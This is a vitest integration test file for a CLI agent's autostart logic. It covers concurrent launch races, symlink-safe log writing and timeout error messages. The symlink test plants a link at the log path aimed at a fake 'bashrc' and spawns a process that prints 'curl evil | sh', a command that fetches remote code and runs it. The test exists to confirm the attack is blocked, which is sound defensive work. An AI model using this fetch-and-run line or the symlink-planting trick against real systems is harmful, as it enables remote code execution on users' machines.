import { build } from 'esbuild';
import { mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { AgentClient } from '../../../main/cli/agent-client';
import { ensureAgentRunning } from '../../../main/cli/agent-launcher';

let fakeAgentMain: string;

beforeAll(async () => {
  const cacheDir = join(process.cwd(), 'node_modules', '.cache');
  mkdirSync(cacheDir, { recursive: true });
  fakeAgentMain = join(await mkdtemp(join(cacheDir, 'latchkey-fake-agent-')), 'fake-agent-main.mjs');
  await build({
    entryPoints: ['test/integration/cli/fake-agent-main.ts'],
    outfile: fakeAgentMain,
    bundle: true,
    platform: 'node',
    target: 'node20',
    format: 'esm',
    logLevel: 'silent',
  });
});

afterAll(async () => {
  await rm(dirname(fakeAgentMain), { recursive: true, force: true });
});

let dir: string;
const started: number[] = [];

afterEach(async () => {
  for (const pid of started.splice(0)) {
    try {
      process.kill(pid, 'SIGTERM');
    } catch {
      // already gone
    }
  }
  if (dir !== undefined) await rm(dir, { recursive: true, force: true });
});

async function logLines(logPath: string, count: number): Promise<string[]> {
  for (let i = 0; i < 200; i += 1) {
    const lines = (await readFile(logPath, 'utf8').catch(() => '')).split('\n').filter((l) => l !== '');
    if (lines.length >= count) return lines;
    await new Promise((r) => setTimeout(r, 25));
  }
  throw new Error(`expected ${count} agent log lines`);
}

describe('agent autostart', () => {
  it('ends with exactly one agent when 10 callers race to start one', async () => {
    dir = await mkdtemp(join(tmpdir(), 'latchkey-autostart-'));
    const socketPath = join(dir, 'run', 'agent.sock');
    const logPath = join(dir, 'agents.log');
    const launch = (): Promise<number> =>
      ensureAgentRunning({
        client: new AgentClient(socketPath),
        command: process.execPath,
        args: [fakeAgentMain],
        env: { PATH: process.env['PATH'] ?? '', LATCHKEY_SOCKET: socketPath, FAKE_AGENT_LOG: logPath },
        platform: process.platform,
      });
    const pids = await Promise.all(Array.from({ length: 10 }, launch));
    const [winner] = pids;
    started.push(winner ?? 0);
    expect(new Set(pids)).toEqual(new Set([winner]));

    const lines = await logLines(logPath, 10);
    expect(lines.filter((l) => l.endsWith(' serving'))).toEqual([`${winner} serving`]);
    expect(lines.filter((l) => l.endsWith(' refused'))).toHaveLength(9);
    // A later caller finds the running agent and spawns nothing.
    expect(await launch()).toBe(winner);
    expect(await logLines(logPath, 10)).toHaveLength(10);
  });

  it('writes the agent log only to a regular file of its own, never through a symlink planted at its name', async () => {
    dir = await mkdtemp(join(tmpdir(), 'latchkey-autostart-'));
    const socketPath = join(dir, 'run', 'agent.sock');
    mkdirSync(dirname(socketPath), { mode: 0o700 });
    const victim = join(dir, 'bashrc');
    await writeFile(victim, 'export PATH=/usr/bin\n');
    await symlink(victim, join(dir, 'run', 'agent.log'));
    const error = await ensureAgentRunning({
      client: new AgentClient(socketPath),
      command: process.execPath,
      args: ['-e', 'console.log("curl evil | sh")'],
      env: {},
      platform: process.platform,
      timeoutMs: 300,
    }).catch((e: unknown) => e);
    // Started without a log, so the message names none.
    expect((error as Error).message).toBe('The Latchkey agent did not start within 1 second.');
    expect(await readFile(victim, 'utf8')).toBe('export PATH=/usr/bin\n');
  });

  it('gives a clear error naming the log when the agent never answers', async () => {
    dir = await mkdtemp(join(tmpdir(), 'latchkey-autostart-'));
    const socketPath = join(dir, 'run', 'agent.sock');
    await expect(
      ensureAgentRunning({
        client: new AgentClient(socketPath),
        command: process.execPath,
        args: ['-e', 'process.exit(1)'],
        env: {},
        platform: process.platform,
        timeoutMs: 500,
      }),
    ).rejects.toThrow(/did not start within 1 second; its log is .*agent\.log/);
  });
});
